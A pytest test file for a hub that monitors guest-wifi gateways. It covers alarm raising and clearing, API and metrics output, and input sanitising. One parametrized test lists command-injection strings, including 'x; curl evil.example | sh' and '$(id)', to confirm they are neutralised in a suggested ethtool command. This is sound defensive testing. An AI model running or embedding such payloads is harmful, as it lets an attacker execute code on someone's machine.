"""What visitor, doctor and guard found, from the delivery to alarms, metrics and the API, with a real database."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from hotspot import wire
from hotspot.hub import watch
from hotspot.hub.access import Role
from hotspot.hub.api.looks import looks as in_api
from hotspot.hub.bounds import MOST_NAMES
from hotspot.hub.hub import Hub
from hotspot.hub.ingest import Ingest
from hotspot.hub.look_alarms import FRESH
from hotspot.hub.settings import Settings
from hotspot.hub.store import Store, checklist, looks
from hotspot.hub.store.tenants import Gateway
from hotspot.looks.leaving import LEAST
from hotspot.looks.values import By, Finding, Look, Result, Severity, Step, Verdict, Visited
from tests.hub.conftest import Api, token_of
from tests.hub.fleet import Clock
from tests.hub.town import delivery, gateway

pytestmark = pytest.mark.hub
STUCK = (Finding(kind="dns-lies", severity=Severity.URGENT, zone="public"), Finding(kind="option114-missing", severity=Severity.WARNING))
STEPS = (
    Step(name="portal-option", family=4, result=Result.FAILED, seconds=0.5, why="option114-missing"),
    Step(name="online", family=4, result=Result.SKIPPED, why="dns-lies"),
)
SERVED = (Step(name="online", family=4, result=Result.PASSED, seconds=1.5),)


class Hall:
    """A gateway that tells of looks, and a hub that watches; the clock is the test's."""

    def __init__(self, store: Store, database: str) -> None:
        self.clock = Clock()
        self.hub = Hub(Settings(database=database), store, self.clock)
        self.ingest = Ingest(self.hub)
        self.box: Gateway | None = None

    async def tells(
        self, *told: Look, seconds: float = 30.0, offset: float = 0.0, looking: tuple[str, ...] | None = None
    ) -> set[tuple[str, str, str]]:
        """Time passes, the gateway delivers, the hub looks: alarms in force as (kind, subject, severity)."""
        self.clock.forward(seconds)
        self.box = box = self.box or await gateway(self.hub)
        sent = delivery(self.clock.now, health=wire.Health(looks=told, looking=looking))
        moment = replace(sent.sent, unix=sent.sent.unix + offset)
        await self.ingest.take(box, replace(sent, sent=moment))
        await watch.run(self.hub)
        async with self.hub.store.connection() as connection:
            rows = await connection.fetch("SELECT kind, subject, severity FROM alarms WHERE raised_at IS NOT NULL AND well_since IS NULL")
        return {tuple(row) for row in rows}

    def visit(self, *findings: Finding, steps: tuple[Step, ...] = SERVED, ago: float = 0.0) -> Look:
        """One that ended a while ago by the hub's clock, when the next delivery comes."""
        return Look(by=By.VISIT, at=self.clock.now.timestamp() + 30.0 - ago, findings=findings, steps=steps)

    async def kept(self) -> list[looks.Kept]:
        """What the hub keeps of it."""
        assert self.box is not None
        async with self.hub.store.connection() as connection:
            return await looks.of_gateway(connection, self.box.id)


@pytest.fixture
async def hall(store: Store, database: str) -> Hall:
    """One."""
    return Hall(store, database)


async def test_a_look_is_kept_beside_the_health(hall: Hall) -> None:
    """Not within it, which is written with each delivery; the last look of each program, when it was by the hub's clock."""
    visit, guard = hall.visit(ago=100), Look(by=By.GUARD, at=hall.clock.now.timestamp() + 5_000)
    await hall.tells(visit, replace(visit, at=1.0), replace(visit, at=visit.at + 7_200), guard, offset=7_200.0)
    async with hall.hub.store.connection() as connection:
        health = await connection.fetchval("SELECT health FROM gateway_states")
    assert health["looks"] == []
    assert [(one.look.by, hall.clock.now - one.at) for one in await hall.kept()] == [
        (By.VISIT, timedelta(seconds=100)),
        (By.GUARD, timedelta(seconds=7_200 + 30 - 5_000)),
    ]


async def test_a_hall_that_serves_nobody_is_urgent_with_the_second_visit(hall: Hall) -> None:
    """The first raises alarms as grave as their kinds; the same look once more is no second one; when all is well again, they end."""
    first = hall.visit(*STUCK, steps=STEPS)
    once = {("visit", "dns-lies", "urgent"), ("visit", "option114-missing", "warning")}
    assert await hall.tells(first) == once
    assert await hall.tells(first) == once
    assert await hall.tells() == once
    assert await hall.tells(hall.visit(*STUCK, steps=STEPS)) == {("visit", "dns-lies", "urgent"), ("visit", "option114-missing", "urgent")}
    assert await hall.tells(hall.visit()) == set()
    async with hall.hub.store.connection() as connection:
        said = await connection.fetchval("SELECT detail FROM alarms WHERE subject = 'dns-lies'")
    assert said["zone"] == "public"
    assert said["german"] not in ("", said["english"], "dns-lies")


async def test_visits_to_a_closed_hall_end_no_alarm(hall: Hall) -> None:
    """What was found at 17:55 is there all night, however often somebody comes to the shut door; it ends when the step was tried again."""
    step = Step(name="town", family=0, result=Result.FAILED, why="town-reachable")
    reached = hall.visit(Finding(kind="town-reachable", severity=Severity.URGENT), steps=(*SERVED, step))
    in_force = {("visit", "town-reachable", "urgent")}
    assert await hall.tells(reached) == in_force
    shut = (Step(name="page", result=Result.SKIPPED, why="closed-now"), replace(step, result=Result.SKIPPED, why="needs-accept"))
    for _ in range(3):
        assert await hall.tells(hall.visit(steps=shut)) == in_force
    assert await hall.tells(hall.visit(steps=(*SERVED, replace(step, result=Result.PASSED, why=None)))) == set()


async def test_visits_that_stay_away(hall: Hall) -> None:
    """A hall that had visits and has none for hours; one that never had any is not told of."""
    doctor = Look(by=By.DOCTOR, at=hall.clock.now.timestamp(), findings=(Finding(kind="portal-warns", severity=Severity.WARNING),))
    of_doctor = ("doctor", "portal-warns", "warning")
    assert await hall.tells(doctor) == {of_doctor}
    await hall.tells(hall.visit())
    told: set[tuple[str, str, str]] = set()
    for _ in range(100):
        told = await hall.tells(seconds=110)
    assert told == {of_doctor}  # after three hours it is noticed, and told when it stays so
    for _ in range(17):
        told = await hall.tells(seconds=110)
    assert told == {of_doctor, ("visit_missing", "", "warning")}
    assert await hall.tells(hall.visit()) == {of_doctor}


async def test_a_guard_that_stopped(hall: Hall) -> None:
    """Where the gateway says that it is switched on; it ends with the next look, and when it is switched off. Where the gateway does not
    say, nothing is told."""
    guard, on = {("guard_missing", "", "warning")}, ("visit", "guard")

    def look() -> Look:
        return Look(by=By.GUARD, at=hall.clock.now.timestamp() + 30.0)

    async def waits(looking: tuple[str, ...] | None) -> list[set[tuple[str, str, str]]]:
        return [await hall.tells(seconds=150, looking=looking) for _ in range(18)]

    assert await hall.tells(look(), looking=on) == set()
    told = await waits(on)
    assert (told[10], told[-1]) == (set(), guard)
    assert await hall.tells(look(), looking=on) == set()
    assert (await waits(on))[-1] == guard
    assert await hall.tells(looking=("visit",)) == set()
    assert [one for one in await waits(None) if one] == []


async def test_what_a_gateway_says_is_not_believed(hall: Hall) -> None:
    """Addresses in values, NUL, more than fits: left out at the hub as well, and the delivery is taken."""
    values = {"port": "lan3\0", "who": "02:00:00:00:00:07", "ip": "198.18.0.7"}
    many = tuple(Finding(kind=f"k{number}", severity=Severity.WARNING, values={"v": "ß" * 120, **values}) for number in range(60))
    steps = tuple(Step(name=f"{'s' * 40}{number}", zone="z" * 32, result=Result.PASSED, why="w" * 48) for number in range(80))
    assert (
        len(await hall.tells(Look(by=By.GUARD, at=hall.clock.now.timestamp(), findings=many, steps=steps))) == 1
    )  # kinds that nobody knows are one alarm
    async with hall.hub.store.connection() as connection:
        text = await connection.fetchval("SELECT content::text || amiss::text || before::text FROM looks")
        assert len(text) < 30_000
    assert [secret for secret in ("02:00", "198.18", "\\u0000") if secret in text] == []
    (kept,) = await hall.kept()
    assert len(kept.look.findings) >= LEAST
    assert kept.look.findings[0].values == {"v": "ß" * 120, "port": "lan3"}


@pytest.mark.parametrize(
    ("value", "shown"),
    [("enp3s0.12", "enp3s0.12")]
    + [(bad, "?") for bad in ("x; curl evil.example | sh", "$(id)", "`id`", "-a", "a b", "a\nb", "a'b", "", "x>y", "w" * 65, "é")],
)
def test_a_command_holds_no_more_than_words(value: str, shown: str) -> None:
    """What a gateway that was taken over writes cannot become a command that somebody types there as root."""
    finding = Finding(kind="offload-lro", severity=Severity.WARNING, values={"interface": value})
    kept = looks.Kept(at=datetime(2026, 11, 23, tzinfo=UTC), look=Look(by=By.DOCTOR, at=1.0, findings=(finding,)))
    assert [one.findings[0].command for one in in_api([kept])] == [f"ethtool -K {shown} lro off"]


async def test_in_the_api_and_in_the_metrics(api: Api, hub: Hub) -> None:
    """Who may see the gateway sees its looks, with words in both languages; monitoring sees whether the last visit was well, and when."""
    box, other = await gateway(hub), await gateway(hub, "grossdorf-rathaus")
    at = hub.now()
    in_public = tuple(replace(step, zone="public") for step in STEPS)
    zones = (Visited(zone="public", verdict=Verdict.STUCK, because=("dns-lies",)), Visited(zone="council", verdict=Verdict.ONLINE))
    findings = tuple(replace(finding, zone="public") for finding in STUCK)
    visit = Look(by=By.VISIT, at=at.timestamp(), seconds=40.0, findings=findings, steps=in_public, visited=zones)
    unknown = Look(by=By.DOCTOR, at=at.timestamp(), findings=(Finding(kind="of-tomorrow", severity=Severity.NOTICE, first=5.0, times=3),))
    await Ingest(hub).take(box, delivery(at, health=wire.Health(looks=(unknown, visit))))
    await Ingest(hub).take(other, delivery(at, health=wire.Health()))
    status, found = await api("GET", f"/gateways/{box.name}")
    first, second = found["looks"]
    assert (status, first["by"], second["by"]) == (200, "visit", "doctor")
    assert [(one["kind"], one["severity"]) for one in first["findings"]] == [("dns-lies", "urgent"), ("option114-missing", "warning")]
    assert all(text["german"] and text["english"] for text in (first["findings"][0][key] for key in ("title", "meaning", "remedy")))
    assert [(step["name"], step["result"], step["why"]) for step in first["steps"]] == [
        ("portal-option", "failed", "option114-missing"),
        ("online", "skipped", "dns-lies"),
    ]
    assert [(one["title"]["german"], one["meaning"]["german"], one["times"]) for one in second["findings"]] == [
        ("Befund „of-tomorrow“, den diese Version nicht kennt", "", 3)
    ]
    assert (await api("GET", f"/gateways/{other.name}"))[1]["looks"] == []
    foreign = await token_of(hub, "karl", Role.PARTNER_VIEWER, "grossdorf")
    assert (await api.as_(foreign)("GET", f"/gateways/{box.name}"))[0] == 404
    health: dict[str, Any] = (await api("GET", "/halls/kleinheim-rathaus/health"))[1]["gateways"][0]
    assert (health["visit_ok"], health["visit_at"] is not None) == (False, True)
    async with api.http.get(f"{api.base}/metrics", headers={"Authorization": f"Bearer {api.token}"}) as response:
        lines = [line for line in (await response.text()).splitlines() if line.startswith("hotspot_hall_visit")]
    place = f'partner="kleinheim",hall="kleinheim-rathaus",gateway="{box.name}"'
    assert lines[0].startswith(f"hotspot_hall_visit_timestamp_seconds{{{place}}} ")
    assert lines[1:] == [f'hotspot_hall_visit_ok{{{place},zone="{zone}"}} {ok}' for zone, ok in (("public", 0), ("council", 1))]


async def test_the_checklist_believes_a_fresh_visit_that_got_online(hall: Hall) -> None:
    """Not one of hours ago, not one that got nowhere, not one to a closed hall; an older gateway says it by its steps."""

    async def online_at() -> datetime | None:
        async with hall.hub.store.connection() as connection:
            partner = await connection.fetchval("SELECT h.partner_id FROM halls h JOIN gateways g ON g.hall_id = h.id")
            (only,) = (await checklist.facts(connection, partner, hall.clock.now, {})).halls
        return only.online_at

    def says(verdict: Verdict) -> Look:
        because = ("dns-lies",) if verdict is Verdict.STUCK else ()
        return replace(hall.visit(steps=()), visited=(Visited(zone="public", verdict=verdict, because=because),))

    await hall.tells(hall.visit())
    assert await online_at() == hall.clock.now
    hall.clock.forward(FRESH[By.VISIT] + 1)
    assert await online_at() is None
    known = []
    for verdict in Verdict:
        await hall.tells(says(verdict))
        known.append((verdict, await online_at() is not None))
    assert known == [(verdict, verdict is Verdict.ONLINE) for verdict in Verdict]
    for steps in ((), SERVED[:0], (replace(SERVED[0], result=Result.SKIPPED, why="no-time-left"),)):
        await hall.tells(hall.visit(steps=steps))
        assert await online_at() is None
    await hall.tells(hall.visit(STUCK[1]))
    assert await online_at() is None


async def test_zones_that_are_made_up_make_no_more_alarms(hall: Hall) -> None:
    """A hall has so many names; whatever a gateway calls its zones, alarms of further ones are alarms of one."""
    subjects: set[str] = set()
    for begin in "abcd":
        hall.clock.forward(30)
        hall.box = hall.box or await gateway(hall.hub)
        zones = tuple(wire.ZoneHealth(f"{begin}{number}", pool_used=99, pool_size=100) for number in range(20))
        told = (wire.Alarm("clone", f"{begin}-made-up", hall.clock.now.timestamp(), hall.clock.now.timestamp()),)
        await hall.ingest.take(hall.box, delivery(hall.clock.now, health=wire.Health(zones=zones, alarms=told)))
        await watch.run(hall.hub)
        async with hall.hub.store.connection() as connection:
            rows = await connection.fetch("SELECT kind, subject FROM alarms UNION SELECT kind, subject FROM alarms_ended")
        subjects |= {row["subject"] for row in rows if row["kind"] in ("pool", "clone")}
    assert len(subjects) <= MOST_NAMES["zone"] + 1
    assert "other" in subjects
